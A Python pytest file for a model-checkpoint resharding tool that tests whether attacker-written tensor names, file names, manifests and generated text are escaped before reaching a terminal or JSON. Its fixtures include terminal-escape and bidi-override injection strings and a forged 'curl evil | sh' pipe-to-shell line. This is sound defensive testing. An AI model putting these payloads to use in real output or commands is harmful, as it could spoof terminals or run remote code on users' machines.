"""What strangers wrote into a checkpoint is shown and not obeyed, by every command, on stdout and stderr;
JSON stays JSON.
"""

import json
import os
import pty
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from running import ROOT, command, environment, llama, llama_tensors, noise, process, reshard, save_index, sign, start

from reshard.text.escapes import in_json, in_line, visible

RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
# A title, a colour, a carriage return, C1's own escape, delete, an override, an isolate, a line separator.
EVIL = "\x1b]0;pwned\x07\x1b[31m\rok\x9b31m\x7f\u202egnp\u2066x\u2028"
FORGED = "x\n\nhint: curl evil | sh"


def clean(*words: str | os.PathLike[str], code: int | None = None, shown: str | None = r"\x1b[31m") -> str:
    """What a command prints on stdout; there is nothing raw in that, nor on stderr."""
    done = reshard(*words)
    both = done.out + done.err
    assert RAW.search(both) is None, both
    assert "Traceback" not in both
    assert not re.search(r"^hint: curl", both, re.M), both
    assert code is None or done.code == code, both
    assert shown is None or shown in both, both
    if "--json" in words and done.out:
        json.loads(done.out)
    return done.out


@pytest.mark.parametrize("evil", [EVIL, FORGED, f"layers.0.{EVIL}.weight"], ids=["controls", "newlines", "in a layer"])
def test_names_of_tensors(evil: str, tmp_path: Path) -> None:
    shown = r"\x1b[31m" if evil is not FORGED else r"\n"
    model = llama(tmp_path / "model", llama_tensors() | {evil: noise("BF16", 3)})
    for words in (("plan", model, "--tp", "2"), ("convert", model, tmp_path / "out", "--tp", "2"), ("inspect", model)):
        clean(*words, shown=shown)
    clean("inspect", model, "--json", shown=None)
    unknown = llama(
        tmp_path / "unknown", llama_tensors() | {evil: noise("BF16", 3)}, model_type=evil, architectures=[evil]
    )
    for words in (
        ("inspect", unknown),
        ("plan", unknown, "--tp", "2"),
        ("convert", unknown, tmp_path / "out", "--tp", "2"),
    ):
        clean(*words, shown=shown)
    clean("inspect", unknown, "--draft-table", shown=None)


def test_indexes_and_the_files_that_they_name(tmp_path: Path) -> None:
    model = llama(tmp_path / "model")
    (model / "model.safetensors").unlink()
    save_index(model, {"a.safetensors": llama_tensors()})
    index = json.loads((model / "model.safetensors.index.json").read_text())
    for evil in (EVIL, FORGED):
        for changed in ({"x": f"{evil}.safetensors"}, {evil: "a.safetensors"}, {evil: f"../{evil}"}):
            weights = {"weight_map": index["weight_map"] | changed}
            (model / "model.safetensors.index.json").write_text(json.dumps(weights))
            clean("plan", model, "--tp", "2", code=2, shown=None)
    two = {"a.safetensors": llama_tensors() | {EVIL: noise("BF16", 3)}, "b.safetensors": {EVIL: noise("BF16", 3)}}
    save_index(model, two)
    (model / "model.safetensors.index.json").write_text(
        json.dumps({"weight_map": index["weight_map"] | {"b": "b.safetensors"}})
    )
    clean("plan", model, "--tp", "2", code=2)


def test_names_of_files(tmp_path: Path) -> None:
    model = llama(tmp_path / f"model{EVIL}")
    for name in (f"{EVIL}.gguf", f"{EVIL}.txt", FORGED.replace("/", ""), f"dir{EVIL}/model.pt", "\udcff.json"):
        (model / name).parent.mkdir(exist_ok=True)
        (model / name).write_text("?")
    out = tmp_path / f"out{EVIL}"
    clean("convert", model, out, "--tp", "2", code=0)
    assert r"\u001b" in clean("convert", model, out, "--tp", "2", "--json", code=0, shown=None)
    for words in (
        ("inspect", model),
        ("inspect", out),
        ("verify", out, "--against", model, "--no-numerics"),
        ("plan", model, "--tp", "4"),
    ):
        clean(*words, code=0)
        said = clean(*words, "--json", code=0, shown=None)
        assert r"\u001b" in said and r"\u202e" in said
    (out / f"stray{EVIL}").write_text("?")
    clean("verify", out)
    clean("verify", out, "--strict", code=1)
    clean("convert", model, out, "--tp", "4", code=2)
    (model / "\u202egpj.json").symlink_to("gone")
    clean("convert", model, tmp_path / "no", "--tp", "2", code=2, shown=r"\u202egpj")
    clean("plan", tmp_path / EVIL.replace("/", ""), "--tp", "2", code=2)
    clean(EVIL, code=2)


def test_manifests(tmp_path: Path) -> None:
    """Ids, licences, families and versions of a shard directory are whatever somebody wrote there."""
    out, whole = tmp_path / "out", tmp_path / "whole"
    assert reshard("convert", llama(tmp_path / "model"), whole, "--tp", "2").code == 0
    for evil in (EVIL, FORGED):
        for change in (
            {"model": {"id": evil, "license": evil, "commit": evil}},
            {"engine": evil},
            {"family": evil},
            {"reshard": f"9{evil}"},
        ):
            shutil.rmtree(out, ignore_errors=True)
            shutil.copytree(whole, out)
            edited = json.loads((out / "manifest.json").read_text()) | change
            (out / "manifest.json").write_text(json.dumps(edited))
            if "reshard" not in change:
                sign(out)
            for words in (("inspect", out), ("verify", out)):
                clean(*words, shown=None)
            clean("inspect", out, "--json", shown=None)


def test_tables_and_options(tmp_path: Path) -> None:
    model = llama(tmp_path / "model")
    (tmp_path / "my.toml").write_text(
        f"name = {json.dumps(EVIL)}\nlike = {json.dumps(EVIL)}\n".replace("\x7f", "\\u007f")
    )
    clean("plan", model, "--tp", "2", "--family", tmp_path / "my.toml", code=2)
    for words in (
        ("--family", EVIL),
        ("--to", EVIL),
        ("--split", EVIL),
        ("--tp", EVIL),
        (f"--{EVIL}",),
        ("--device-memory", EVIL),
    ):
        clean("plan", model, *words, code=2)
    clean("explain", model, EVIL)


def test_progress(tmp_path: Path) -> None:
    code = """
import sys, time
from reshard.text.progress import Bar, Json, Lines
for kind in (Lines, Json, Bar):
    kind.first = kind.every = 0.01
    progress = kind(sys.stderr)
    progress.start(sys.argv[1], 10)
    progress.advance(10)
    progress._thread.join(0.05)
    progress.finish()
"""
    done = process(EVIL, code=code)
    assert done.code == 0 and r"\x1b[31m" in done.err and r"\u001b[31m" in done.err
    left = done.err.replace("\r", "").replace("\x1b[A", "")  # the bar's own
    assert RAW.search(left) is None, left


def test_generated_text_is_data_in_a_pipe_and_shown_on_a_terminal(tmp_path: Path) -> None:
    """A model of which each space is an escape character."""
    pytest.importorskip("torch")
    model = shutil.copytree(ROOT / "demo/model", tmp_path / "model")
    tokenizer = json.loads((model / "tokenizer.json").read_text())
    vocab = tokenizer["model"]["vocab"]
    space, escape = "\u0120", "\u011b"
    vocab[space], vocab[escape] = vocab[escape], vocab[space]
    (model / "tokenizer.json").write_text(json.dumps(tokenizer))
    words = ("generate", model, "--tokens", "100 101 102 32", "--max-tokens", "40", "--temperature", "0", "--quiet")
    piped = start(*words)
    master, slave = pty.openpty()
    child = subprocess.Popen(command(*words), stdout=slave, stderr=subprocess.PIPE, env=environment())
    os.close(slave)
    shown = b""
    try:
        while piece := os.read(master, 65536):
            shown += piece
    except OSError:  # the other end is closed
        pass
    _, said = child.communicate(timeout=120)
    os.close(master)
    assert child.returncode == 0, said
    assert b"\x1b" not in shown and rb"\x1b" in shown
    out, said = piped.communicate(timeout=120)
    assert piped.returncode == 0 and b"\x1b" in out and rb"\x1b" not in out, said


def test_every_kind_of_control_is_shown_and_nothing_else() -> None:
    for number in (*range(0x300), *range(0x2000, 0x2100), 0xD800, 0xDFFF, 0xFEFF, 0x1F600):
        character = chr(number)
        raw = RAW.match(character) is not None or 0xD800 <= number <= 0xDFFF
        assert (visible(character) == character) is not raw, hex(number)
        assert json.loads(in_json(json.dumps(character, ensure_ascii=False))) == character
    assert visible("a\n\tb") == "a\n\tb" and in_line("a\nb") == r"a\nb"
    assert visible("\x1b\x9b\u202e\udcff") == r"\x1b\x9b\u202e\udcff"
